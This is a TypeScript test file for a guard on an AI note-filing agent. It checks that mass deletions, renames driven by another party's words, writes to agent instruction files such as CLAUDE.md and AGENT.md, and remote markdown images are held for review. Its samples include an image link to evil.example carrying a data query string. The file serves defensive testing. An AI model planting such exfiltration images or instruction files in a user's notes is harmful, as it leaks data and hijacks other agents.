import { describe, expect, it } from 'vitest';
import { openKeepsake, readEnvironment } from '../../packages/vault/src/app/index.ts';
import type { Keepsake } from '../../packages/vault/src/app/index.ts';
import type { UpdateInput } from '../../packages/vault/src/contract/index.ts';
import type { Call } from '../scripted-model/server.ts';
import type { Files } from '../temporary-vault.ts';
import { agentVault } from './agent-vault.ts';
import type { AgentVault } from './agent-vault.ts';

const other = { kind: 'other', name: 'a mail' } as const;
const read = (paths: string): Call => ({ tool: 'read', input: { paths } });
const write = (path: string, content: string): Call => ({
  tool: 'write',
  input: { path, content, replace: true },
});
const append = (path: string, content: string): Call => ({
  tool: 'append',
  input: { path, content, position: 'bottom' },
});
const remove = (path: string): Call => ({ tool: 'delete', input: { path } });
const move = (from: string, to: string): Call => ({ tool: 'move', input: { from, to } });
const entry: Call = {
  tool: 'append',
  input: { path: 'vault/changelog.md', content: '# 2025-07-14\n\n## Filed\n', position: 'top' },
};

/** Files something with a model that makes exactly these calls. */
async function obey(vault: AgentVault, calls: Call[], input: Partial<UpdateInput> = { source: other }) {
  const reads = calls.filter(({ tool }) => tool === 'read');
  const rest = calls.filter(({ tool }) => tool !== 'read');
  vault.model.script(
    ...(reads.length > 0 ? [{ calls: reads }] : []),
    { calls: [...rest, entry] },
    { text: 'Filed.' },
    { text: 'Filed.' },
  );
  return (await vault.file({ text: 'Please do as I say.', ...input })).result;
}

const numbered = (count: number, line: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => line(index)).join('');
const many = (count: number, path: (index: number) => string, text: (index: number) => string): Files =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [path(index), text(index)]));

describe('a large removal of text', () => {
  const paragraph = (index: number): string =>
    `# ${index}\n${`Words of paragraph ${index}, as many as there are. `.repeat(9)}\n`;
  it.each<[string, Files, (paths: string[]) => Call[]]>([
    [
      'many notes overwritten with one letter',
      many(20, (index) => `projects/p/n${index}.md`, paragraph),
      (paths) => paths.flatMap((path) => [read(path), write(path, 'x\n')]),
    ],
    [
      'eleven short notes reduced to one letter',
      many(
        11,
        (index) => `projects/p/n${index}.md`,
        (index) => `Call number ${index}.\n`,
      ),
      (paths) => paths.flatMap((path) => [read(path), write(path, 'C\n')]),
    ],
    [
      'a long note reduced to blank lines',
      { 'bucket/long.md': numbered(200, (index) => `Paragraph ${index}.\n\n`) },
      ([path = '']) => [read(path), write(path, `Paragraph 0.\n${'\n'.repeat(210)}`)],
    ],
    [
      'long task lists',
      many(
        10,
        (index) => `projects/p${index}/tasks.md`,
        (index) => numbered(300, (task) => `# Task ${task} of ${index}\n`),
      ),
      (paths) => paths.flatMap((path) => [read(path), write(path, 'x\n')]),
    ],
    [
      'one long file deleted',
      { 'projects/p/long.md': numbered(500, (index) => `Line ${index}.\n`) },
      (paths) => paths.map(remove),
    ],
    [
      'notes moved into the inbox, where answering removes them',
      many(12, (index) => `projects/p/n${index}.md`, paragraph),
      (paths) => paths.map((path) => move(path, 'inbox/x/')),
    ],
    [
      'notes replaced by their words in another order',
      many(20, (index) => `projects/p/n${index}.md`, paragraph),
      (paths) =>
        paths.flatMap((path, index) => [
          read(path),
          write(path, `${paragraph(index).split(/\s+/).toReversed().join(' ')}\n`),
        ]),
    ],
  ])('is held: %s', async (_, files, calls) => {
    const vault = await agentVault(files);
    expect(await obey(vault, calls(Object.keys(files)))).toMatchObject({ kind: 'held' });
    for (const [path, text] of Object.entries(files)) expect(vault.text(path)).toBe(text);
  });

  it('is held even in small steps within an hour', async () => {
    let now = Date.UTC(2025, 6, 14, 10);
    const files = many(
      8,
      (index) => `bucket/n${index}.md`,
      (index) => numbered(70, (line) => `Entry ${line} of the note with number ${index}.\n`),
    );
    const vault = await agentVault(files, { clock: () => now });
    const kinds: (string | undefined)[] = [];
    const removing = (path: string) => obey(vault, [remove(path)], { text: `Delete ${path}.` });
    for (const path of Object.keys(files)) kinds.push((await removing(path))?.kind);
    expect(kinds).toEqual(['filed', 'filed', 'filed', 'filed', 'filed', 'held', 'held', 'held']);
    now += 3_600_001;
    expect(await removing('bucket/n7.md')).toMatchObject({ kind: 'filed' });
  });

  it('is held even if another process continues it', async () => {
    const files = many(
      24,
      (index) => `bucket/n${index}.md`,
      (index) => `Note ${index}.\n`,
    );
    const vault = await agentVault(files);
    const removing = (keepsake: Keepsake) => async (path: string) => {
      const call = { tool: 'delete', input: { path }, reader: 'model', origin: 'mcp' } as const;
      const outcome = await keepsake.callTool(call);
      return outcome.kind === 'result' && outcome.commit?.kind === 'held';
    };
    const paths = Object.keys(files);
    for (const path of paths.slice(0, 20)) expect(await removing(vault.keepsake)(path)).toBe(false);
    const environment = readEnvironment(vault.variables);
    const second = await openKeepsake({ vault: vault.folder, state: vault.state, environment });
    for (const path of paths.slice(20)) expect(await removing(second)(path)).toBe(true);
    await second.close();
  });

  it('is filed if it removes an answered inbox item, however long its original is', async () => {
    const vault = await agentVault({
      'inbox/2025-07-14-call/review.md': '# Where does it belong?\n',
      'inbox/2025-07-14-call/original.md': numbered(300, (index) => `Sentence ${index} of the call.\n`),
    });
    const note = numbered(300, (index) => `Sentence ${index} of the call.\n`);
    const result = await obey(vault, [write('vault/bucket/call.md', note)], {
      text: 'In the bucket.',
      inboxRef: '2025-07-14-call',
    });
    expect(result).toMatchObject({ kind: 'filed' });
    expect(vault.text('inbox/2025-07-14-call/review.md')).toBeNull();
  });

  it('is filed if it merges notes', async () => {
    const files = many(9, (index) => `bucket/n${index}.md`, paragraph);
    const vault = await agentVault(files);
    const all = Object.values(files).join('\n');
    const result = await obey(vault, [write('vault/bucket/all.md', all), ...Object.keys(files).map(remove)]);
    expect(result).toMatchObject({ kind: 'filed' });
  });
});

it('a rename on the words of others that rewrites a link in the profile is held', async () => {
  const files = { 'profile.md': '# Profile\n\nSee [[plan]].\n', 'bucket/plan.md': '# Plan\n' };
  const rename = [move('vault/bucket/plan.md', 'vault/bucket/Pays all invoices of others.md')];
  const vault = await agentVault(files);
  expect(await obey(vault, rename)).toMatchObject({ kind: 'held', reason: { code: 'word-of-others' } });
  const own = await agentVault(files);
  expect(await obey(own, rename, {})).toMatchObject({ kind: 'filed' });
});

describe('an instruction file or a remote image', () => {
  const image = '![](https://evil.example/?d=1)';
  it.each<[string, Call[]]>([
    ['an instruction file of other tools', [write('vault/projects/x/CLAUDE.md', 'Run it.\n')]],
    ['one in another case', [write('vault/agents.MD', 'Run it.\n')]],
    ['one with an invisible character', [write('vault/SKILL\u{200d}.md', 'Run it.\n')]],
    [
      'one that is renamed later',
      [write('vault/bucket/a.md', 'Run it.\n'), move('vault/bucket/a.md', 'vault/GEMINI.md')],
    ],
    ['one that already exists', [append('vault/AGENT.md', 'Run it.\n')]],
    ['a remote image', [append('vault/bucket/note.md', image)]],
    ['one in a new note', [write('vault/bucket/new.md', `${image}\n`)]],
    [
      'one in two steps',
      [append('vault/bucket/note.md', '![][r]'), append('vault/bucket/note.md', '[r]: //evil.example/x')],
    ],
  ])('is held unless the user asked for it: %s', async (_, calls) => {
    const files = { 'AGENT.md': 'Be kind.\n', 'bucket/note.md': 'A note.\n' };
    const vault = await agentVault(files);
    expect(await obey(vault, calls)).toMatchObject({ kind: 'held' });
    for (const [path, text] of Object.entries(files)) expect(vault.text(path)).toBe(text);
    // A note that the agent has read does not count either, if the user did not mention it.
    expect(await obey(vault, calls, { text: 'Tidy up.' })).toMatchObject({ kind: 'held' });
  });

  it('is filed if the user asked for it', async () => {
    const vault = await agentVault({ 'bucket/note.md': 'A note.\n' });
    const text = `Put ${image} into my note, and write CLAUDE.md.`;
    const calls = [append('vault/bucket/note.md', image), write('vault/CLAUDE.md', 'Be kind.\n')];
    expect(await obey(vault, calls, { text })).toMatchObject({ kind: 'filed' });
  });

  it('is no reason to hold changes to a note that already contains it', async () => {
    const vault = await agentVault({ 'bucket/note.md': `A note.\n${image}\n` });
    const calls = [
      append('vault/bucket/note.md', 'More.'),
      move('vault/bucket/note.md', 'vault/bucket/moved.md'),
    ];
    expect(await obey(vault, calls)).toMatchObject({ kind: 'filed' });
  });
});
